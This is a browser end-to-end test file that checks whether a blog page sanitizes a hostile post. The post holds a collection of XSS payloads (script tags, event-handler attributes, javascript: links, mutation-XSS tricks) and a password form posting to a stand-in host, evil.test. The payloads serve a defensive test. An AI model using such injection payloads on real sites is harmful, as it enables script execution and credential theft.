import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  productUrl,
  renderInBrowser,
  useSerialPageInNewProfile,
} from '../support/browser/product.ts';
import { widthBeyondWindow } from '../support/browser/widthBeyondWindow.ts';

const alarm = "window.alarmed = true; document.title = 'alarmed'";
const longWord = 'sambungan'.repeat(40);
const hostile = `
  <h1 style="position:fixed;inset:0;background:red" id="root" onclick="${alarm}">Judul di dalam</h1>
  <script>${alarm}</script><img src="x" onerror="${alarm}"><img src="/storage/none.png" alt="Gambar hilang" onerror="${alarm}">
  <svg onload="${alarm}"><script>${alarm}</script></svg><math><mtext><img src=x onerror="${alarm}"></mtext></math>
  <iframe srcdoc="<script>parent.alarmed = true</script>"></iframe><object data="data:text/html,x"></object><embed src="/api/blogs">
  <style>main { display: none !important }</style><link rel="stylesheet" href="/evil.css"><base href="https://evil.test/">
  <meta http-equiv="refresh" content="0;url=/tournaments">
  <form action="https://evil.test/"><input name="sandi" autofocus onfocus="${alarm}"><button>Masuk</button></form>
  <p>Teks <a href="javascript:${alarm}">jebakan</a>, <a href="https://luar.test/a" target="_self">luar</a>, <a href="/tournaments">dalam</a>, ${longWord}</p>
  <noscript><p title="</noscript><img src=x onerror=${alarm}>"></p></noscript><template><img src=x onerror="${alarm}"></template>
  <table><caption>Hasil</caption><tr>${'<td>kolom lebar</td>'.repeat(12)}</tr></table>
  <pre><code>${longWord}</code></pre>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror="${alarm}">`;

/**
 * Without the server's policy, which would stop most of it a second time, and say so on the
 * console.
 */
const unguarded = { bypassCSP: true, viewport: { width: 390, height: 844 } };

const blog = {
  id: 1,
  title: 'Blog bermusuhan',
  slug: 'bermusuhan',
  image: 'javascript:alert(1)',
  content: hostile,
  created_at: '2026-08-17T03:15:00Z',
  meta_title: '<script>alert(1)</script>',
  meta_description: '"><script>alert(1)</script>',
};

async function open(page: Page): Promise<string[]> {
  const strangers: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== productUrl) strangers.push(request.url());
  });
  await renderInBrowser(page);
  await page.route('**/api/blogs', (route) =>
    route.fulfill({ json: { success: true, data: [blog] } }),
  );
  // Pictures that are not there would be lines on the console.
  await page.route('**/storage/*', (route) =>
    route.fulfill({ body: 'no picture', contentType: 'image/png' }),
  );
  await page.goto('/blog/bermusuhan');
  await page.getByRole('heading', { level: 2, name: 'Judul di dalam' }).waitFor();
  return strangers;
}

describe('a hostile blog', () => {
  const currentPage = useSerialPageInNewProfile(unguarded);

  it('is shown without doing what it says', async () => {
    const page = currentPage();
    const strangers = await open(page);
    await page.getByText('Gambar hilang').waitFor();
    expect(await page.title()).toBe('<script>alert(1)</script> · RoboLaga');
    expect(await page.evaluate(() => 'alarmed' in window)).toBe(false);
    expect(strangers).toEqual([]);
    const article = page.locator('main');
    for (const forbidden of [
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'math',
      'template',
      'meta',
      'link',
      'base',
      '[onclick]',
      '[id="root"]',
      'a[href^="javascript"]',
    ]) {
      expect([forbidden, await article.locator(forbidden).count()]).toEqual([forbidden, 0]);
    }
    expect(await page.getByRole('heading', { level: 1 }).allTextContents()).toEqual([
      'Blog bermusuhan',
    ]);
    expect(
      await page
        .getByRole('heading', { level: 2, name: 'Judul di dalam' })
        .evaluate((heading) => getComputedStyle(heading).position),
    ).toBe('static');
    expect(await widthBeyondWindow(page)).toBe(0);

    const table = page.getByRole('group', { name: 'Hasil' });
    await table.focus();
    await page.keyboard.press('ArrowRight');
    await expect
      .poll(() => table.evaluate((box) => box.scrollLeft), { timeout: 15_000 })
      .toBeGreaterThan(0);
  });

  it('leads elsewhere in a new tab, and to our pages without loading the product anew', async () => {
    const page = currentPage();
    expect(await page.getByRole('link', { name: 'jebakan' }).count()).toBe(0);
    const elsewhere = page.getByRole('link', { name: 'luar' });
    expect([await elsewhere.getAttribute('target'), await elsewhere.getAttribute('rel')]).toEqual([
      '_blank',
      'noopener noreferrer',
    ]);
    await page.evaluate(() => {
      document.body.dataset.visit = 'first';
    });
    await page.getByRole('link', { name: 'dalam' }).click();
    await page.waitForURL('**/tournaments');
    expect(await page.evaluate(() => document.body.dataset.visit)).toBe('first');
  });
});
